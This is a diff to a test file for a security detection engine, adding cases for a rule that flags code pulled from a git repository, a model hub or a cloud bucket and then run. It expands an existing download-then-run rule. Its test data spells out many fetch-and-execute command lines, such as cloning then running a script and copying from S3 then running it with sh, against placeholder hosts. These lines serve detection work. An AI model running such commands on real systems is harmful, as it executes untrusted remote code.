@@ -1,11 +1,12 @@
 /**
- * `attrs.exec.fetchedThenRun` (exec-fetched-run.ts) and the rule that reads it, MLS-RAY-014 (MITRE
- * T1105 then T1059): a file downloaded and run in the same exec. The reading over canonical
- * commands, then through the shipped rule set and the real engine: every download-then-run
- * spelling alerts; a download only stored, read as data or run as inline code does not.
+ * `attrs.exec.fetchedThenRun` (exec-fetched-run.ts) and the rules that read it, MLS-RAY-014 (MITRE
+ * T1105 then T1059): a file downloaded and run in the same exec, and MLS-RAY-041: code pulled from a
+ * repository, a hub or a bucket and run. The reading over canonical commands, then through the
+ * shipped rule set and the real engine: every download-then-run spelling alerts; a download only
+ * stored, read as data or run as inline code does not.
  */
 import { describe, expect, it } from 'vitest';
-import { execEvent, execRuleIds } from './exec-events.test-support.js';
+import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';
 import { canonicalExecValue } from './exec-canonical.js';
 import { fetchedThenRun, MAX_FETCHED } from './exec-fetched-run.js';
 import { enterEvent, leaveEvent } from './event-scope.js';
@@ -144,6 +145,30 @@ describe('fetchedThenRun over a reading', () => {
     }
   });
 
+  it('reads a pull as a download named by its tool: a clone, a hub download, a wget tree, a bucket copy', () => {
+    const cases: Array<[string, string[]]> = [
+      ['git clone https://github.com/x/tools /tmp/t && bash /tmp/t/run.sh', ['git']],
+      ['git clone --depth 1 https://203.0.113.9/x.git && cd x && ./install.sh', ['git']],
+      ['cd /opt && git clone https://h/x/tools.git && python3 tools/setup.py install', ['git']],
+      ['hf download org/tools run.py --local-dir /tmp/t && python /tmp/t/run.py', ['hf']],
+      ['wget -r -np -P /tmp/w http://h/kit/ && sh /tmp/w/h/kit/go.sh', ['wget']],
+      ['aws s3 cp s3://b/x.sh /tmp/x.sh && sh /tmp/x.sh', ['aws']],
+      ['aws s3 cp s3://b/x.sh /tmp/ && sh /tmp/x.sh', ['aws']],
+      // Run by its name: found on PATH.
+      ['gsutil cp gs://b/tools/kit /usr/local/bin/kit && kit --help', ['gsutil']],
+      ['gsutil cp gs://b/tools/kit /tmp/kit && chmod +x /tmp/kit && /tmp/kit', ['gsutil']],
+      ['rclone copy r:tools /tmp/r && bash /tmp/r/x.sh', ['rclone']],
+    ];
+    for (const [script, want] of cases) expect(fetched(script), script).toEqual(want);
+    // Pulled and only read, or another file run.
+    for (const script of [
+      'git clone https://github.com/x/data /tmp/d && wc -l /tmp/d/labels.csv',
+      'aws s3 cp s3://b/cfg.yaml /tmp/cfg.yaml && python3 /app/train.py --config /tmp/cfg.yaml',
+      'aws s3 cp /tmp/x.sh s3://b/x.sh && sh /tmp/x.sh',
+      'hf download org/llama --local-dir /mnt/models/llama && python3 /app/serve.py',
+    ]) expect(fetched(script), script).toEqual([]);
+  });
+
   it("reads an interpreter's download and a PowerShell -OutFile as downloads", () => {
     const py = canonicalExecValue(['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://h/p", "/tmp/p"); os.system("sh /tmp/p")'])!;
     expect(py.fetchedThenRun).toEqual(['curl']);
@@ -211,5 +236,29 @@ describe(`${RULE}: a file downloaded and run in the exec`, () => {
         leaveEvent();
       }
     }
+  });
+});
+
+describe('MLS-RAY-041: code pulled from a repository, a hub or a bucket and run', () => {
+  it('escalates each pull then run through the shipped rules, for a person and a service account', () => {
+    for (const script of [
+      'git clone https://github.com/x/tools /tmp/t && bash /tmp/t/run.sh',
+      'hf download org/tools run.py --local-dir /tmp/t && python /tmp/t/run.py',
+      'aws s3 cp s3://b/x.sh /tmp/x.sh && sh /tmp/x.sh',
+      'rclone copy r:tools /tmp/r && bash /tmp/r/x.sh',
+    ]) {
+      expect(execRuleIds(['sh', '-c', script]), script).toContain('MLS-RAY-041');
+      expect(execRuleIds(['sh', '-c', script], SA), script).toContain('MLS-RAY-041');
+      expect(execRuleIds(['sh', '-c', script]), script).not.toContain(RULE);
+    }
+  });
+
+  it('leaves pulls only read, and fetches (MLS-RAY-014 alerts on those)', () => {
+    for (const script of ['git clone https://github.com/x/data /tmp/d && wc -l /tmp/d/labels.csv', 'aws s3 cp s3://b/cfg.yaml /tmp/cfg.yaml && python3 /app/train.py --config /tmp/cfg.yaml']) {
+      expect(execRuleIds(['sh', '-c', script]), script).not.toContain('MLS-RAY-041');
+    }
+    const fetchRun = execRuleIds(['sh', '-c', 'curl -o /tmp/x http://h/x && sh /tmp/x']);
+    expect(fetchRun).toContain(RULE);
+    expect(fetchRun).not.toContain('MLS-RAY-041');
   });
 });
